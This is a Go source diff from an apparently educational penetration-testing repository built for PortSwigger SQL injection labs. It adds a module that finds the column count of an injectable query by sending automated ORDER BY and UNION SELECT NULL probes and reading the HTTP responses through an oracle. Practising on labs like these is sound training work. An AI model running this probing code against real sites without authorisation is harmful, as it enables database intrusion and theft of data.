@@ -0,0 +1,181 @@
+package sqli
+
+import (
+	"fmt"
+	"slices"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/payload"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// FindNumOfColumns determines the number of columns in the vulnerable query result set.
+// It searches ORDER BY indexes exponentially and then by bisection, and confirms the
+// count with a UNION SELECT of as many NULLs. When ORDER BY is filtered or the UNION
+// disagrees, it probes UNION SELECT NULL,... incrementally and confirms that count with
+// ORDER BY when possible. The oracle must be calibrated on a working and a broken query.
+func FindNumOfColumns(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, oracle Oracle) (int, error) {
+	if !boundary.TakesClauses() {
+		return 0, fmt.Errorf("the %s boundary is balanced by %q, which ORDER BY and UNION SELECT cannot precede", boundary.Context, boundary.Suffix)
+	}
+	prober := columnProber{client: client, point: point, boundary: boundary, oracle: oracle}
+
+	orderByCount, err := prober.searchOrderBy()
+	if err != nil {
+		return 0, err
+	}
+	if orderByCount > 0 {
+		logger.Debugf("ORDER BY reports %d columns", orderByCount)
+		works, err := prober.unionWorks(orderByCount)
+		if err != nil {
+			return 0, err
+		}
+		if works {
+			return orderByCount, nil
+		}
+		logger.Warningf("UNION SELECT with %d columns failed, probing UNION column counts", orderByCount)
+	} else {
+		logger.Warning("ORDER BY is not usable, probing UNION column counts")
+	}
+
+	unionCount, err := prober.probeUnion()
+	if err != nil {
+		return 0, err
+	}
+	if unionCount == 0 {
+		return 0, fmt.Errorf("could not determine number of columns within %d columns", constant.MAX_COLUMN_SEARCH)
+	}
+	logger.Debugf("UNION SELECT reports %d columns", unionCount)
+	if orderByCount == 0 {
+		return unionCount, nil
+	}
+
+	// ORDER BY worked but disagreed with UNION, accept the UNION count only if ORDER BY confirms it
+	confirmed, err := prober.orderByBoundaryAt(unionCount)
+	if err != nil {
+		return 0, err
+	}
+	if !confirmed {
+		return 0, fmt.Errorf("ORDER BY (%d columns) and UNION SELECT (%d columns) disagree", orderByCount, unionCount)
+	}
+	return unionCount, nil
+}
+
+// columnProber sends the ORDER BY and UNION probes of FindNumOfColumns.
+type columnProber struct {
+	client   *utility.HTTPClient
+	point    InjectionPoint
+	boundary Boundary
+	oracle   Oracle
+}
+
+// searchOrderBy doubles the ORDER BY index until the query breaks, then bisects between
+// the last working and the first failing index. It returns 0 when ORDER BY 1 already fails
+// or ORDER BY MAX_COLUMN_SEARCH+1 still works, as when the index is ignored and every probe
+// works, so the UNION probes can take over.
+func (p columnProber) searchOrderBy() (int, error) {
+	works, err := p.orderByWorks(1)
+	if err != nil || !works {
+		return 0, err
+	}
+
+	low, high := 1, 2
+	for {
+		if high > constant.MAX_COLUMN_SEARCH {
+			high = constant.MAX_COLUMN_SEARCH + 1
+			works, err := p.orderByWorks(high)
+			if err != nil {
+				return 0, err
+			}
+			if works {
+				logger.Debugf("ORDER BY %d works, the query has more columns or ignores the index", high)
+				return 0, nil
+			}
+			break
+		}
+		works, err := p.orderByWorks(high)
+		if err != nil {
+			return 0, err
+		}
+		if !works {
+			break
+		}
+		low, high = high, high*2
+	}
+
+	// ORDER BY low works and ORDER BY high fails
+	for high-low > 1 {
+		middle := (low + high) / 2
+		works, err := p.orderByWorks(middle)
+		if err != nil {
+			return 0, err
+		}
+		if works {
+			low = middle
+		} else {
+			high = middle
+		}
+	}
+	return low, nil
+}
+
+// orderByBoundaryAt reports whether ORDER BY count works and ORDER BY count+1 fails.
+func (p columnProber) orderByBoundaryAt(count int) (bool, error) {
+	works, err := p.orderByWorks(count)
+	if err != nil || !works {
+		return false, err
+	}
+	works, err = p.orderByWorks(count + 1)
+	return !works, err
+}
+
+func (p columnProber) orderByWorks(column int) (bool, error) {
+	response, err := fetchResponse(p.client, p.point, p.boundary.Wrap(fmt.Sprintf(" ORDER BY %d", column)))
+	if err != nil {
+		return false, err
+	}
+	return p.oracle.Evaluate(response), nil
+}
+
+// probeUnion adds NULL columns one at a time until the UNION SELECT works.
+// It returns 0 when no count up to MAX_COLUMN_SEARCH works.
+func (p columnProber) probeUnion() (int, error) {
+	for count := 1; count <= constant.MAX_COLUMN_SEARCH; count++ {
+		works, err := p.unionWorks(count)
+		if err != nil {
+			return 0, err
+		}
+		if works {
+			return count, nil
+		}
+	}
+	return 0, nil
+}
+
+// unionWorks tries a UNION SELECT of count NULLs, with and without a dual table since
+// the database is not known yet.
+func (p columnProber) unionWorks(count int) (bool, error) {
+	for _, dualTable := range dualTables() {
+		union := payload.NewUnion(constant.Database{}, count).From(dualTable)
+		response, err := fetchResponse(p.client, p.point, p.boundary.Wrap(union.String()))
+		if err != nil {
+			return false, err
+		}
+		if p.oracle.Evaluate(response) {
+			return true, nil
+		}
+	}
+	return false, nil
+}
+
+// dualTables lists the distinct dual tables of the known databases, "" for none.
+func dualTables() []string {
+	tables := []string{""}
+	for _, db := range constant.Databases {
+		if !slices.Contains(tables, db.DualTable) {
+			tables = append(tables, db.DualTable)
+		}
+	}
+	return tables
+}